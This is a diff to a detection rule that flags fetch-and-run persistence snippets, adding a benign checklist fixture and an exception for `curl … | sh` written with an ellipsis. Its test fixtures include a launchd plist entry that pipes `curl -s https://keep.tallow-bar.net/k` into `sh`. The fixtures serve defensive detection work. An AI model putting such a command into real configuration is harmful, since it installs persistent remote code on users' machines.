@@ -114,6 +114,7 @@ export default defineRule({
       '```xml\n<key>ProgramArguments</key>\n<array><string>sh</string><string>-c</string><string>curl -s https://keep.tallow-bar.net/k | sh</string></array>\n```\n',
     ],
     quiet: [
+      '- [ ] `curl … | sh` and blobs in base64\n- [ ] writes to shell profiles, crontab, `~/.bashrc`\n',
       '```bash\necho \'ACTION=="add", SUBSYSTEM=="tty", RUN+="/usr/bin/systemctl start reader"\' | sudo tee /etc/udev/rules.d/60-reader.rules\n```\n',
       '```bash\ncurl -fsSL https://raw.githubusercontent.com/acme/ci/v2/lint.yml -o .github/workflows/lint.yml\n```\n',
       '```\nAuthorizedKeysCommand /usr/bin/sss_ssh_authorizedkeys %u\n```\n',
@@ -132,7 +133,8 @@ export default defineRule({
     for (const { start, end } of candidates(document, spans, FETCHED_AND_RUN)) {
       const body = text.slice(start, end)
       const run = FETCHED_AND_RUN.exec(body)
-      if (!run) continue
+      // `curl … | sh` is a manner of speaking.
+      if (!run || /…|\.{3}/.test(run[0])) continue
       // What is searched for, or named as an instance, is planted by nobody.
       const ahead = body.slice(body.lastIndexOf('\n', run.index) + 1, run.index)
       if (/\b(?:[ez]?grep|rg|such as)\b/.test(ahead)) continue
